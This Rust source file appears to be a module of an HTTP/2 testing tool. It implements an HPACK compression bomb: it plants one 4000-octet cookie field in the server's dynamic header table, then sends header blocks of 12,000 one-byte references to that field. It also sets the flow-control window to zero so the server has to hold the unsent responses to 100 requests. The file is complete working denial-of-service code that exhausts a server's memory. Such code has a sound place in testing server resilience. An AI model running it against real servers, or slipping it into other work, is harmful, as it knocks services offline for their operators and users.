//! HPACK bomb with a window of zero: one long field in the dynamic table, thousands of references of one
//! octet to it, and responses that the client does not take, so that all of it is kept.

use std::time::Duration;

use super::frames::{self, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE};
use super::ground::Ground;
use super::http2::on_connection;

/// Octets of the field, which just fit a dynamic table of 4096 with the 32 that count for each.
const VALUE: usize = 4_000;

/// References in a block: each costs the sender one octet.
const REFERENCES: usize = 12_000;

/// Requests that are answered, but whose responses are not taken.
const HELD: u32 = 100;

/// The first place of the dynamic table, as an indexed field (RFC 7541, sections 2.3.3 and 6.1).
const NEWEST: u8 = 0x80 | 0x3e;

pub(super) async fn attack(ground: &Ground<'_>) {
    on_connection(ground, &[(INITIAL_WINDOW_SIZE, 0)], async |connection| {
        for _ in 0..HELD {
            connection.put_request();
        }
        connection.send(0).await?;
        let mut first = connection.block().to_vec();
        // With incremental indexing and a new name (section 6.2.1).
        first.push(0x40);
        frames::put_string(&mut first, b"cookie");
        frames::put_string(&mut first, &[b'c'; VALUE]);
        first.extend([NEWEST; REFERENCES]);
        let mut later = connection.block().to_vec();
        later.extend([NEWEST; REFERENCES]);
        let flags = END_STREAM | END_HEADERS;
        let mut block = &first;
        loop {
            if connection.leave(1).await? == 1 {
                let stream = connection.stream();
                frames::put(&mut connection.output, HEADERS, flags, stream, block);
                connection.send(1).await?;
                block = &later;
            }
            connection.rest(Duration::from_millis(1)).await?;
        }
    })
    .await;
}
